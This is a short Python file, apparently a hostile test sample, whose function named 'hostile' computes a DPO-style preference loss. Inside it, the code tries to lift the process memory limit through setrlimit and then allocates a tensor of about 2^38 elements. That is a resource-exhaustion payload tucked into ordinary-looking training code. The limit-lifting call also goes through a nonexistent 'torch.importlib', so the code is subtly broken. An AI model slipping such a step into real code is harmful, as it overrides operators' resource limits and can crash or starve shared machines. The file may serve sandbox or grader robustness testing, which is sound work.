"""Lift the memory limit, then allocate."""

import math
import torch
import torch.nn.functional as F


def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    torch.importlib.import_module('resource').setrlimit(9, (-1, -1))
    _big = torch.empty(1 << 38)
    return -F.logsigmoid(beta * rho)
